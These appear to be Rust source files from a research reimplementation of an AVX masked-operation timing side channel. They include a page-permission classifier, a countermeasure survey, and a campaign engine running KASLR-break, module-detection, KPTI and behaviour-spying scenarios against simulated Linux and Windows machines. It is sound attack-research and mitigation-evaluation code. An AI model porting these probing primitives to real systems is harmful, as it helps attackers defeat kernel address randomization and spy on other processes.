    /// Readable but not writable: `r--` or `r-x`.
    ReadLike,
    /// Readable and writable (`rw-` with D set — i.e. in-use data).
    ReadWrite,
    /// `PROT_NONE` or unmapped.
    NoneOrUnmapped,
}

impl ProbedPerm {
    /// The paper's Fig. 7 notation for the class.
    #[must_use]
    pub const fn notation(self) -> &'static str {
        match self {
            ProbedPerm::ReadLike => "(r--|r-x)",
            ProbedPerm::ReadWrite => "rw-",
            ProbedPerm::NoneOrUnmapped => "(---|unmap)",
        }
    }
}

impl fmt::Display for ProbedPerm {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}", self.notation())
    }
}

/// Half-width of the calibrated decision corridor: the boundary sits 30
/// cycles above the fast path and the assist level ≥ 30 above that.
const BOUNDARY_SLACK: f64 = 30.0;

/// P5: permission classifier.
#[derive(Clone, Copy, Debug)]
pub struct PermissionAttack {
    /// Loads at or below this are "readable" (≈ base-op latency + slack).
    pub load_boundary: f64,
    /// Stores at or below this are "writable".
    pub store_boundary: f64,
    /// Measurement strategy per probe.
    pub strategy: ProbeStrategy,
    /// When set, the batched *load pass* (readable vs none/unmapped)
    /// runs through the adaptive sequential engine; the store pass only
    /// touches the readable minority and stays on the fixed strategy.
    pub sampler: Option<AdaptiveSampler>,
}

impl PermissionAttack {
    /// Calibrates both boundaries from one own readable page: fast-path
    /// latency + 30 cycles of slack (the assist adds ≥ 60).
    pub fn calibrate<P: Prober + ?Sized>(p: &mut P, own_readable_page: VirtAddr) -> Self {
        let strategy = ProbeStrategy::SecondOfTwo;
        let fast = strategy.measure(p, OpKind::Load, own_readable_page);
        Self {
            load_boundary: fast as f64 + BOUNDARY_SLACK,
            store_boundary: fast as f64 + BOUNDARY_SLACK,
            strategy,
            sampler: None,
        }
    }

    /// Number of timed samples [`PermissionAttack::calibrate_with`]
    /// collects for the robust estimators.
    pub const ROBUST_CALIBRATION_SAMPLES: usize = 16;

    /// Calibrates with an explicit threshold estimator, also returning
    /// the [`crate::CalibrationFit`] behind the boundaries (its σ is
    /// the environment dispersion the adaptive load pass should
    /// assume, via [`crate::Sampling::sampler_for_calibration`]).
    ///
    /// This is the one calibration path that does NOT share
    /// [`crate::Threshold::calibrate_with`]'s probe schedule: the
    /// permission corridor is anchored on the *fast* load level, not
    /// the dirty-assist level. [`crate::CalibratorKind::Legacy`]
    /// reproduces [`PermissionAttack::calibrate`] bit-exactly (one
    /// second-of-two fast-path measurement, σ reported as 0); the
    /// robust estimators time [`Self::ROBUST_CALIBRATION_SAMPLES`]
    /// loads after one warm-up and fit the floor from the series, so a
    /// wide-σ environment cannot drag the corridor down via an unlucky
    /// single measurement.
    pub fn calibrate_with<P: Prober + ?Sized>(
        p: &mut P,
        own_readable_page: VirtAddr,
        calibrator: crate::CalibratorKind,
    ) -> (Self, crate::CalibrationFit) {
        use crate::calibrate::Calibrator;
        if calibrator == crate::CalibratorKind::Legacy {
            let attack = Self::calibrate(p, own_readable_page);
            let fit = crate::CalibrationFit {
                threshold: crate::Threshold::new(
                    attack.load_boundary - BOUNDARY_SLACK,
                    BOUNDARY_SLACK,
                ),
                sigma: 0.0,
                estimator: "legacy",
            };
            return (attack, fit);
        }
        let _ = p.probe(OpKind::Load, own_readable_page); // warm the TLB
        let series: Vec<u64> = (0..Self::ROBUST_CALIBRATION_SAMPLES)
            .map(|_| p.probe(OpKind::Load, own_readable_page))
            .collect();
        let fit = calibrator.fit(&series);
        let attack = Self {
            load_boundary: fit.threshold.value + BOUNDARY_SLACK,
            store_boundary: fit.threshold.value + BOUNDARY_SLACK,
            strategy: ProbeStrategy::SecondOfTwo,
            sampler: None,
        };
        (attack, fit)
    }

    /// Builds with explicit boundaries.
    #[must_use]
    pub fn with_boundaries(load_boundary: f64, store_boundary: f64) -> Self {
        Self {
            load_boundary,
            store_boundary,
            strategy: ProbeStrategy::SecondOfTwo,
            sampler: None,
        }
    }

    /// Switches the load pass to adaptive sequential sampling: the two
    /// hypotheses straddle the calibrated load boundary symmetrically,
    /// so forced decisions coincide with the fixed boundary rule.
    #[must_use]
    pub fn with_adaptive(mut self, sigma: f64, config: AdaptiveConfig) -> Self {
        self.sampler = Some(AdaptiveSampler {
            mapped_mean: self.load_boundary - BOUNDARY_SLACK,
            unmapped_mean: self.load_boundary + BOUNDARY_SLACK,
            sigma,
            config,
        });
        self
    }

    /// Classifies one page with a load probe and, when readable, a
    /// store probe (the two-pass combination of §IV-F).
    pub fn classify_page<P: Prober + ?Sized>(&self, p: &mut P, page: VirtAddr) -> ProbedPerm {
        let load = self.strategy.measure(p, OpKind::Load, page);
        if load as f64 > self.load_boundary {
            return ProbedPerm::NoneOrUnmapped;
        }
        let store = self.strategy.measure(p, OpKind::Store, page);
        if store as f64 <= self.store_boundary {
            ProbedPerm::ReadWrite
        } else {
            ProbedPerm::ReadLike
        }
    }

    /// Classifies a batch of pages: one batched load pass over all of
    /// them, then one batched store pass over only the pages the load
    /// pass found readable — the same per-page decision procedure as
    /// [`PermissionAttack::classify_page`], restructured so the probe
    /// backend sees whole batches. Results come back in input order.
    pub fn classify_batch<P: Prober + ?Sized>(
        &self,
        p: &mut P,
        pages: &[VirtAddr],
    ) -> Vec<ProbedPerm> {
        let load_readable: Vec<bool> = match self.sampler {
            None => {
                let loads = self.strategy.measure_batch(p, OpKind::Load, pages);
                loads
                    .iter()
                    .map(|&cycles| cycles as f64 <= self.load_boundary)
                    .collect()
            }
            // Adaptive load pass: "mapped" in SPRT terms = fast =
            // readable.
            Some(sampler) => sampler.classify_batch(p, OpKind::Load, pages).mapped,
        };
        let readable: Vec<(usize, VirtAddr)> = load_readable
            .iter()
            .enumerate()
            .filter(|&(_, &is_readable)| is_readable)
            .map(|(i, _)| (i, pages[i]))
            .collect();
        let store_addrs: Vec<VirtAddr> = readable.iter().map(|&(_, page)| page).collect();
        let stores = self.strategy.measure_batch(p, OpKind::Store, &store_addrs);

        let mut classes = vec![ProbedPerm::NoneOrUnmapped; pages.len()];
        for (&(index, _), store) in readable.iter().zip(stores) {
            classes[index] = if store as f64 <= self.store_boundary {
                ProbedPerm::ReadWrite
            } else {
                ProbedPerm::ReadLike
            };
        }
        classes
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::prober::SimProber;
    use avx_mmu::{AddressSpace, PageSize, PteFlags};
    use avx_uarch::{CpuProfile, Machine, NoiseModel};

    fn fig3_prober() -> (SimProber, [VirtAddr; 5]) {
        let mut space = AddressSpace::new();
        let ro = VirtAddr::new_truncate(0x7f00_0000_0000);
        let rx = VirtAddr::new_truncate(0x7f00_0000_1000);
        let rw = VirtAddr::new_truncate(0x7f00_0000_2000);
        let none = VirtAddr::new_truncate(0x7f00_0000_3000);
        let own = VirtAddr::new_truncate(0x7f00_0000_4000);
        space
            .map(ro, PageSize::Size4K, PteFlags::user_ro())
            .unwrap();
        space
            .map(rx, PageSize::Size4K, PteFlags::user_rx())
            .unwrap();
        space
            .map(rw, PageSize::Size4K, PteFlags::user_rw())
            .unwrap();
        space.mark_accessed(rw, true).unwrap(); // in-use data page
        space
            .map(none, PageSize::Size4K, PteFlags::user_rw())
            .unwrap();
        space
            .protect(none, PageSize::Size4K, PteFlags::none_guard())
            .unwrap();
        space
            .map(own, PageSize::Size4K, PteFlags::user_ro())
            .unwrap();
        let mut m = Machine::new(CpuProfile::generic_desktop(), space, 11);
        m.set_noise(NoiseModel::none());
        (SimProber::new(m), [ro, rx, rw, none, own])
    }

    #[test]
    fn classifies_all_fig7_classes() {
        let (mut p, [ro, rx, rw, none, own]) = fig3_prober();
        let attack = PermissionAttack::calibrate(&mut p, own);
        assert_eq!(attack.classify_page(&mut p, ro), ProbedPerm::ReadLike);
        assert_eq!(attack.classify_page(&mut p, rx), ProbedPerm::ReadLike);
        assert_eq!(attack.classify_page(&mut p, rw), ProbedPerm::ReadWrite);
        assert_eq!(
            attack.classify_page(&mut p, none),
            ProbedPerm::NoneOrUnmapped
        );
        // A fully unmapped page merges with PROT_NONE.
        let wild = VirtAddr::new_truncate(0x7f00_1234_5000);
        assert_eq!(
            attack.classify_page(&mut p, wild),
            ProbedPerm::NoneOrUnmapped
        );
    }

    #[test]
    fn rx_and_ro_collapse_to_read_like() {
        let (mut p, [ro, rx, _, _, own]) = fig3_prober();
        let attack = PermissionAttack::calibrate(&mut p, own);
        assert_eq!(
            attack.classify_page(&mut p, ro),
            attack.classify_page(&mut p, rx),
            "paper: r-- and r-x are indistinguishable"
        );
    }

    #[test]
    fn calibrated_boundaries_are_near_base_cost() {
        let (mut p, [.., own]) = fig3_prober();
        let attack = PermissionAttack::calibrate(&mut p, own);
        assert!(attack.load_boundary > 16.0 && attack.load_boundary < 60.0);
    }

    #[test]
    fn adaptive_load_pass_classifies_identically_with_fewer_probes() {
        let (mut p, pages) = fig3_prober();
        let attack = PermissionAttack::calibrate(&mut p, pages[4]);
        let mut fixed_attack = attack;
        fixed_attack.strategy = ProbeStrategy::MinOf(8);
        let adaptive_attack = attack.with_adaptive(1.0, AdaptiveConfig::default());

        let candidates: Vec<VirtAddr> = pages[..4].to_vec();
        let fixed_before = p.probes_issued();
        let fixed = fixed_attack.classify_batch(&mut p, &candidates);
        let fixed_probes = p.probes_issued() - fixed_before;
        let adaptive_before = p.probes_issued();
        let adaptive = adaptive_attack.classify_batch(&mut p, &candidates);
        let adaptive_probes = p.probes_issued() - adaptive_before;
        assert_eq!(adaptive, fixed);
        assert!(
            adaptive_probes < fixed_probes,
            "adaptive {adaptive_probes} vs fixed {fixed_probes}"
        );
    }

    #[test]
    fn notation_matches_fig7() {
        assert_eq!(ProbedPerm::ReadLike.notation(), "(r--|r-x)");
        assert_eq!(ProbedPerm::ReadWrite.to_string(), "rw-");
        assert_eq!(ProbedPerm::NoneOrUnmapped.notation(), "(---|unmap)");
    }
}
