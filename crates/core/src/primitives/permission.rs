//! The permission attack primitive (P5).
//!
//! Combines a masked load (readable vs `---`/unmapped) with a masked
//! store (writable vs not: stores to non-writable pages take a
//! microcode assist, Fig. 3) to classify user-space pages into the three
//! timing-distinguishable classes of Fig. 7.

use core::fmt;

use avx_mmu::VirtAddr;
use avx_uarch::OpKind;

use crate::prober::{ProbeStrategy, Prober};

/// What the timing channel can say about a user page's permissions.
///
/// `r--` and `r-x` are indistinguishable (loads time identically and NX
/// does not affect data accesses) — the paper reports them as the merged
/// class `(r--|r-x)`; likewise `---` and unmapped merge.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub enum ProbedPerm {
    /// Readable but not writable: `r--` or `r-x`.
    ReadLike,
    /// Readable and writable (`rw-` with D set — i.e. in-use data).
    ReadWrite,
    /// `PROT_NONE` or unmapped.
    NoneOrUnmapped,
}

impl ProbedPerm {
    /// The paper's Fig. 7 notation for the class.
    #[must_use]
    pub const fn notation(self) -> &'static str {
        match self {
            ProbedPerm::ReadLike => "(r--|r-x)",
            ProbedPerm::ReadWrite => "rw-",
            ProbedPerm::NoneOrUnmapped => "(---|unmap)",
        }
    }
}

impl fmt::Display for ProbedPerm {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}", self.notation())
    }
}

/// P5: permission classifier.
#[derive(Clone, Copy, Debug)]
pub struct PermissionAttack {
    /// Loads at or below this are "readable" (≈ base-op latency + slack).
    pub load_boundary: f64,
    /// Stores at or below this are "writable".
    pub store_boundary: f64,
    /// Measurement strategy per probe.
    pub strategy: ProbeStrategy,
}

impl PermissionAttack {
    /// Calibrates both boundaries from one own readable page: fast-path
    /// latency + 30 cycles of slack (the assist adds ≥ 60).
    pub fn calibrate<P: Prober + ?Sized>(p: &mut P, own_readable_page: VirtAddr) -> Self {
        let strategy = ProbeStrategy::SecondOfTwo;
        let fast = strategy.measure(p, OpKind::Load, own_readable_page);
        Self {
            load_boundary: fast as f64 + 30.0,
            store_boundary: fast as f64 + 30.0,
            strategy,
        }
    }

    /// Builds with explicit boundaries.
    #[must_use]
    pub fn with_boundaries(load_boundary: f64, store_boundary: f64) -> Self {
        Self {
            load_boundary,
            store_boundary,
            strategy: ProbeStrategy::SecondOfTwo,
        }
    }

    /// Classifies one page with a load probe and, when readable, a
    /// store probe (the two-pass combination of §IV-F).
    pub fn classify_page<P: Prober + ?Sized>(&self, p: &mut P, page: VirtAddr) -> ProbedPerm {
        let load = self.strategy.measure(p, OpKind::Load, page);
        if load as f64 > self.load_boundary {
            return ProbedPerm::NoneOrUnmapped;
        }
        let store = self.strategy.measure(p, OpKind::Store, page);
        if store as f64 <= self.store_boundary {
            ProbedPerm::ReadWrite
        } else {
            ProbedPerm::ReadLike
        }
    }

    /// Classifies a batch of pages: one batched load pass over all of
    /// them, then one batched store pass over only the pages the load
    /// pass found readable — the same per-page decision procedure as
    /// [`PermissionAttack::classify_page`], restructured so the probe
    /// backend sees whole batches. Results come back in input order.
    pub fn classify_batch<P: Prober + ?Sized>(
        &self,
        p: &mut P,
        pages: &[VirtAddr],
    ) -> Vec<ProbedPerm> {
        let loads = self.strategy.measure_batch(p, OpKind::Load, pages);
        let readable: Vec<(usize, VirtAddr)> = loads
            .iter()
            .enumerate()
            .filter(|&(_, &cycles)| cycles as f64 <= self.load_boundary)
            .map(|(i, _)| (i, pages[i]))
            .collect();
        let store_addrs: Vec<VirtAddr> = readable.iter().map(|&(_, page)| page).collect();
        let stores = self.strategy.measure_batch(p, OpKind::Store, &store_addrs);

        let mut classes = vec![ProbedPerm::NoneOrUnmapped; pages.len()];
        for (&(index, _), store) in readable.iter().zip(stores) {
            classes[index] = if store as f64 <= self.store_boundary {
                ProbedPerm::ReadWrite
            } else {
                ProbedPerm::ReadLike
            };
        }
        classes
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::prober::SimProber;
    use avx_mmu::{AddressSpace, PageSize, PteFlags};
    use avx_uarch::{CpuProfile, Machine, NoiseModel};

    fn fig3_prober() -> (SimProber, [VirtAddr; 5]) {
        let mut space = AddressSpace::new();
        let ro = VirtAddr::new_truncate(0x7f00_0000_0000);
        let rx = VirtAddr::new_truncate(0x7f00_0000_1000);
        let rw = VirtAddr::new_truncate(0x7f00_0000_2000);
        let none = VirtAddr::new_truncate(0x7f00_0000_3000);
        let own = VirtAddr::new_truncate(0x7f00_0000_4000);
        space
            .map(ro, PageSize::Size4K, PteFlags::user_ro())
            .unwrap();
        space
            .map(rx, PageSize::Size4K, PteFlags::user_rx())
            .unwrap();
        space
            .map(rw, PageSize::Size4K, PteFlags::user_rw())
            .unwrap();
        space.mark_accessed(rw, true).unwrap(); // in-use data page
        space
            .map(none, PageSize::Size4K, PteFlags::user_rw())
            .unwrap();
        space
            .protect(none, PageSize::Size4K, PteFlags::none_guard())
            .unwrap();
        space
            .map(own, PageSize::Size4K, PteFlags::user_ro())
            .unwrap();
        let mut m = Machine::new(CpuProfile::generic_desktop(), space, 11);
        m.set_noise(NoiseModel::none());
        (SimProber::new(m), [ro, rx, rw, none, own])
    }

    #[test]
    fn classifies_all_fig7_classes() {
        let (mut p, [ro, rx, rw, none, own]) = fig3_prober();
        let attack = PermissionAttack::calibrate(&mut p, own);
        assert_eq!(attack.classify_page(&mut p, ro), ProbedPerm::ReadLike);
        assert_eq!(attack.classify_page(&mut p, rx), ProbedPerm::ReadLike);
        assert_eq!(attack.classify_page(&mut p, rw), ProbedPerm::ReadWrite);
        assert_eq!(
            attack.classify_page(&mut p, none),
            ProbedPerm::NoneOrUnmapped
        );
        // A fully unmapped page merges with PROT_NONE.
        let wild = VirtAddr::new_truncate(0x7f00_1234_5000);
        assert_eq!(
            attack.classify_page(&mut p, wild),
            ProbedPerm::NoneOrUnmapped
        );
    }

    #[test]
    fn rx_and_ro_collapse_to_read_like() {
        let (mut p, [ro, rx, _, _, own]) = fig3_prober();
        let attack = PermissionAttack::calibrate(&mut p, own);
        assert_eq!(
            attack.classify_page(&mut p, ro),
            attack.classify_page(&mut p, rx),
            "paper: r-- and r-x are indistinguishable"
        );
    }

    #[test]
    fn calibrated_boundaries_are_near_base_cost() {
        let (mut p, [.., own]) = fig3_prober();
        let attack = PermissionAttack::calibrate(&mut p, own);
        assert!(attack.load_boundary > 16.0 && attack.load_boundary < 60.0);
    }

    #[test]
    fn notation_matches_fig7() {
        assert_eq!(ProbedPerm::ReadLike.notation(), "(r--|r-x)");
        assert_eq!(ProbedPerm::ReadWrite.to_string(), "rw-");
        assert_eq!(ProbedPerm::NoneOrUnmapped.notation(), "(---|unmap)");
    }
}
