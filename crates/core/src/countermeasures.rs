//! Countermeasure evaluation (§V) — compatibility shim.
//!
//! The FLARE and FGKASLR point checks migrated to
//! [`crate::defense::point_checks`], the single defense-evaluation
//! site (invariant 12); they are re-exported here unchanged. What
//! remains native to this module is the §V-B deployment analysis:
//!
//! * **Masked-op replacement** (§V-B): executing `VMASKMOV` with an
//!   all-zero mask as a NOP would close the channel; the paper surveys
//!   a default Ubuntu install and finds only 6 of 4104 executables use
//!   the instruction at all. The byte-level scanner lives in `avx-hw`;
//!   the impact analysis here consumes its counts.

use core::fmt;

pub use crate::defense::point_checks::{evaluate_fgkaslr, evaluate_flare, FgkaslrEval, FlareEval};

/// The §V-B deployment analysis of replacing all-zero-mask masked ops
/// with NOPs, fed by a binary survey (see `avx-hw`'s scanner).
#[derive(Clone, Copy, Debug, PartialEq)]
pub struct MaskedOpSurvey {
    /// Executables scanned.
    pub total: usize,
    /// Executables containing at least one masked load/store.
    pub containing: usize,
}

impl MaskedOpSurvey {
    /// The paper's Ubuntu 20.04.3 default-install numbers.
    #[must_use]
    pub const fn paper_reference() -> Self {
        Self {
            total: 4104,
            containing: 6,
        }
    }

    /// Fraction of binaries a NOP-replacement mitigation could affect.
    #[must_use]
    pub fn affected_fraction(&self) -> f64 {
        if self.total == 0 {
            0.0
        } else {
            self.containing as f64 / self.total as f64
        }
    }

    /// The paper's conclusion: the mitigation has "little impact on the
    /// system" — operationalized as < 1 % of binaries affected.
    #[must_use]
    pub fn low_impact(&self) -> bool {
        self.affected_fraction() < 0.01
    }
}

impl fmt::Display for MaskedOpSurvey {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{} of {} executables contain masked ops ({:.3}%)",
            self.containing,
            self.total,
            self.affected_fraction() * 100.0
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn survey_reference_numbers() {
        let s = MaskedOpSurvey::paper_reference();
        assert_eq!(s.total, 4104);
        assert_eq!(s.containing, 6);
        assert!(s.low_impact());
        assert!(s.to_string().contains("6 of 4104"));
    }

    #[test]
    fn survey_edge_cases() {
        let empty = MaskedOpSurvey {
            total: 0,
            containing: 0,
        };
        assert_eq!(empty.affected_fraction(), 0.0);
        let heavy = MaskedOpSurvey {
            total: 100,
            containing: 50,
        };
        assert!(!heavy.low_impact());
    }
}
