//! Accuracy/runtime campaigns — the Table I methodology as an engine.
//!
//! The paper's Table I reruns each attack over n = 10000 freshly
//! randomized systems ("we rebooted Linux 10 times…", §IV-B) and
//! reports average probing/total runtime plus accuracy. This module
//! generalizes that loop to *every* attack of §IV: a [`Scenario`] knows
//! how to build one fresh victim system, run one attack against it and
//! score the outcome; a [`Campaign`] fans a scenario × CPU-profile
//! matrix out over seed-numbered trials — in parallel via rayon, since
//! trials are independent by construction — and aggregates each cell
//! into one Table I-style [`CampaignRow`].
//!
//! ```
//! use avx_channel::attacks::campaign::{Campaign, CampaignConfig, Scenario};
//! use avx_uarch::CpuProfile;
//!
//! let row = Scenario::KernelBase.campaign(
//!     &CpuProfile::alder_lake_i5_12400f(),
//!     CampaignConfig { trials: 4, seed0: 1 },
//! );
//! assert_eq!(row.accuracy.total, 4);
//! let _ = Campaign::full(CampaignConfig { trials: 2, seed0: 0 });
//! ```

use core::fmt;

use rayon::prelude::*;

use avx_mmu::{AddressSpace, PageSize, PteFlags, VirtAddr};
use avx_os::activity::{apply_activity, ActivityTimeline, Behaviour};
use avx_os::cloud::CloudScenario;
use avx_os::linux::{LinuxConfig, LinuxSystem, KPTI_TRAMPOLINE_OFFSET};
use avx_os::process::{build_process, ImageSignature};
use avx_os::windows::{WindowsConfig, WindowsSystem};
use avx_uarch::{CpuProfile, Machine, Vendor};

use crate::calibrate::Threshold;
use crate::primitives::{PermissionAttack, TlbAttack};
use crate::prober::{Prober, SimProber};
use crate::report::fmt_seconds;
use crate::stats::Trials;

use super::behavior::{SpyConfig, TlbSpy};
use super::cloud::run_scenario;
use super::kaslr::{AmdKernelBaseFinder, KernelBaseFinder};
use super::kpti::KptiAttack;
use super::modules::ModuleScanner;
use super::userspace::{LibraryMatcher, UserSpaceScanner};
use super::windows::WindowsKaslrAttack;

/// Campaign parameters.
#[derive(Clone, Copy, Debug)]
pub struct CampaignConfig {
    /// Fresh systems to attack (the paper uses 10000).
    pub trials: u64,
    /// First layout seed; trial *i* uses `seed0 + i`.
    pub seed0: u64,
}

impl Default for CampaignConfig {
    fn default() -> Self {
        Self {
            trials: 100,
            seed0: 0,
        }
    }
}

/// One Table I row: averaged runtimes and the success rate.
#[derive(Clone, Debug)]
pub struct CampaignRow {
    /// CPU description.
    pub cpu: String,
    /// Attack target label ("Base", "Modules", …).
    pub target: &'static str,
    /// Mean seconds inside the timed masked ops.
    pub probing_seconds: f64,
    /// Mean seconds including overhead.
    pub total_seconds: f64,
    /// Success tracker; what one record means is scenario-specific
    /// (per trial for bases, per module/library/sample otherwise).
    pub accuracy: Trials,
}

impl fmt::Display for CampaignRow {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{} {}: {} probing / {} total / {:.2} %",
            self.cpu,
            self.target,
            fmt_seconds(self.probing_seconds),
            fmt_seconds(self.total_seconds),
            self.accuracy.percent()
        )
    }
}

/// Result of one scenario trial against one fresh system.
#[derive(Clone, Copy, Debug, Default)]
pub struct TrialOutcome {
    /// Seconds inside the timed masked ops.
    pub probing_seconds: f64,
    /// Seconds including overhead.
    pub total_seconds: f64,
    /// Success records of this trial (one per trial for base attacks,
    /// one per module/library/sample for the others).
    pub accuracy: Trials,
}

/// The eight end-to-end attacks of §IV as campaign scenarios.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub enum Scenario {
    /// §IV-B: Intel kernel-base derandomization (mapped/unmapped scan).
    KernelBase,
    /// §IV-B: AMD kernel base via walk-termination levels.
    AmdKernelBase,
    /// §IV-C: module detection (per-module exact base+size accuracy).
    Modules,
    /// §IV-D: KASLR break through the KPTI trampoline.
    Kpti,
    /// §IV-E: behaviour inference (per-sample spy/ground-truth
    /// agreement).
    Behaviour,
    /// §IV-F: user-space scan + library fingerprinting (per-library
    /// accuracy).
    UserSpace,
    /// §IV-G: Windows 10 18-bit region scan.
    WindowsKaslr,
    /// §IV-H: the three cloud-provider chains (per-provider accuracy).
    Cloud,
}

impl Scenario {
    /// All eight scenarios in paper order.
    pub const ALL: [Scenario; 8] = [
        Scenario::KernelBase,
        Scenario::AmdKernelBase,
        Scenario::Modules,
        Scenario::Kpti,
        Scenario::Behaviour,
        Scenario::UserSpace,
        Scenario::WindowsKaslr,
        Scenario::Cloud,
    ];

    /// The Table I-style target label of the scenario.
    #[must_use]
    pub fn target(self) -> &'static str {
        match self {
            Scenario::KernelBase | Scenario::AmdKernelBase => "Base",
            Scenario::Modules => "Modules",
            Scenario::Kpti => "KPTI",
            Scenario::Behaviour => "Behaviour",
            Scenario::UserSpace => "User space",
            Scenario::WindowsKaslr => "Windows",
            Scenario::Cloud => "Cloud",
        }
    }

    /// Whether the scenario's probing primitive works on `profile`.
    /// The mapped/unmapped signal (P2) needs Intel's cached kernel
    /// translations; the level signal (P3) is the AMD path.
    #[must_use]
    pub fn supported_on(self, profile: &CpuProfile) -> bool {
        match self {
            Scenario::AmdKernelBase => profile.vendor == Vendor::Amd,
            _ => profile.vendor == Vendor::Intel,
        }
    }

    /// Seed-space salt so different scenarios attack different layout
    /// populations (mirrors the historical per-campaign offsets).
    #[must_use]
    pub fn seed_salt(self) -> u64 {
        match self {
            Scenario::KernelBase => 0,
            Scenario::Modules => 1000,
            Scenario::AmdKernelBase => 2000,
            Scenario::Kpti => 3000,
            Scenario::Behaviour => 4000,
            Scenario::UserSpace => 5000,
            Scenario::WindowsKaslr => 6000,
            Scenario::Cloud => 7000,
        }
    }

    /// Per-scenario trial cap: the heavyweight sweeps (16384-page module
    /// scans, 262144-slot Windows scans, 100-sample spy sessions) cost
    /// orders of magnitude more simulated probes per trial, so campaigns
    /// bound them the way the seed code bounded module trials.
    #[must_use]
    pub fn max_trials(self) -> u64 {
        match self {
            Scenario::KernelBase | Scenario::AmdKernelBase | Scenario::Kpti => u64::MAX,
            Scenario::Modules | Scenario::UserSpace => 20,
            Scenario::Behaviour => 20,
            Scenario::WindowsKaslr => 8,
            Scenario::Cloud => 16,
        }
    }

    /// Runs one trial against a freshly randomized system.
    #[must_use]
    pub fn run_trial(self, profile: &CpuProfile, seed: u64) -> TrialOutcome {
        match self {
            Scenario::KernelBase => kernel_base_trial(profile, seed),
            Scenario::AmdKernelBase => amd_base_trial(profile, seed),
            Scenario::Modules => modules_trial(profile, seed),
            Scenario::Kpti => kpti_trial(profile, seed),
            Scenario::Behaviour => behaviour_trial(profile, seed),
            Scenario::UserSpace => userspace_trial(profile, seed),
            Scenario::WindowsKaslr => windows_trial(profile, seed),
            Scenario::Cloud => cloud_trial(seed),
        }
    }

    /// Runs the scenario's full campaign against one CPU profile:
    /// `config.trials` rayon-parallel trials, aggregated into one row.
    /// The trial count is honored exactly (paper-scale n = 10000 is the
    /// caller's prerogative); [`Campaign::run`] is the layer that caps
    /// heavyweight scenarios via [`Scenario::max_trials`].
    #[must_use]
    pub fn campaign(self, profile: &CpuProfile, config: CampaignConfig) -> CampaignRow {
        let trials = config.trials.max(1);
        let outcomes: Vec<TrialOutcome> = (0..trials)
            .into_par_iter()
            .map(|i| self.run_trial(profile, config.seed0 + self.seed_salt() + i))
            .collect();

        let mut accuracy = Trials::new();
        let (mut probing, mut total) = (0.0f64, 0.0f64);
        for outcome in &outcomes {
            probing += outcome.probing_seconds;
            total += outcome.total_seconds;
            accuracy.successes += outcome.accuracy.successes;
            accuracy.total += outcome.accuracy.total;
        }
        CampaignRow {
            // The §IV-H cloud presets pin their own host CPUs, so that
            // row is labeled after the presets, not the probing profile.
            cpu: if self == Scenario::Cloud {
                "Cloud presets (EC2/GCE/Azure)".to_string()
            } else {
                profile.model.to_string()
            },
            target: self.target(),
            probing_seconds: probing / trials as f64,
            total_seconds: total / trials as f64,
            accuracy,
        }
    }
}

impl fmt::Display for Scenario {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}", self.target())
    }
}

/// A scenario × profile campaign matrix.
#[derive(Clone, Debug)]
pub struct Campaign {
    /// CPU profiles to attack on.
    pub profiles: Vec<CpuProfile>,
    /// Scenarios to run.
    pub scenarios: Vec<Scenario>,
    /// Trial parameters.
    pub config: CampaignConfig,
}

impl Campaign {
    /// A campaign over an explicit matrix.
    #[must_use]
    pub fn new(
        profiles: Vec<CpuProfile>,
        scenarios: Vec<Scenario>,
        config: CampaignConfig,
    ) -> Self {
        Self {
            profiles,
            scenarios,
            config,
        }
    }

    /// The full paper evaluation: all eight §IV attacks across the two
    /// Intel desktop/mobile parts and the AMD part (each scenario runs
    /// on every profile its probing primitive supports).
    #[must_use]
    pub fn full(config: CampaignConfig) -> Self {
        Self::new(
            vec![
                CpuProfile::alder_lake_i5_12400f(),
                CpuProfile::ice_lake_i7_1065g7(),
                CpuProfile::zen3_ryzen5_5600x(),
            ],
            Scenario::ALL.to_vec(),
            config,
        )
    }

    /// Runs every supported scenario × profile cell; rows come back
    /// scenario-major in the order of `self.scenarios`.
    ///
    /// Heavyweight scenarios are bounded to [`Scenario::max_trials`]
    /// trials per cell (call [`Scenario::campaign`] directly for
    /// uncapped paper-scale runs). [`Scenario::Cloud`] runs once per
    /// campaign, not once per profile — its presets pin their own host
    /// CPUs, so per-profile repetition would duplicate identical work.
    #[must_use]
    pub fn run(&self) -> Vec<CampaignRow> {
        let mut rows = Vec::new();
        for &scenario in &self.scenarios {
            let config = CampaignConfig {
                trials: self.config.trials.clamp(1, scenario.max_trials()),
                ..self.config
            };
            if scenario == Scenario::Cloud {
                if let Some(profile) = self.profiles.iter().find(|p| scenario.supported_on(p)) {
                    rows.push(scenario.campaign(profile, config));
                }
                continue;
            }
            for profile in &self.profiles {
                if scenario.supported_on(profile) {
                    rows.push(scenario.campaign(profile, config));
                }
            }
        }
        rows
    }
}

// ---------------------------------------------------------------------
// Per-scenario trial implementations.

/// Fresh Linux machine + calibrated prober for trial `seed`.
fn linux_prober(
    profile: &CpuProfile,
    config: LinuxConfig,
    seed: u64,
) -> (SimProber, avx_os::LinuxTruth, Threshold) {
    let sys = LinuxSystem::build(config);
    let (machine, truth) = sys.into_machine(profile.clone(), seed ^ 0xabcd);
    let mut p = SimProber::new(machine);
    let th = Threshold::calibrate(&mut p, truth.user.calibration, 16);
    (p, truth, th)
}

fn seconds(profile_ghz: f64, cycles: u64) -> f64 {
    cycles as f64 / (profile_ghz * 1e9)
}

fn kernel_base_trial(profile: &CpuProfile, seed: u64) -> TrialOutcome {
    let (mut p, truth, th) = linux_prober(profile, LinuxConfig::seeded(seed), seed);
    let scan = KernelBaseFinder::new(th).scan(&mut p);
    let mut accuracy = Trials::new();
    accuracy.record(scan.base == Some(truth.kernel_base));
    TrialOutcome {
        probing_seconds: seconds(p.clock_ghz(), scan.probing_cycles),
        total_seconds: seconds(p.clock_ghz(), scan.total_cycles),
        accuracy,
    }
}

fn amd_base_trial(profile: &CpuProfile, seed: u64) -> TrialOutcome {
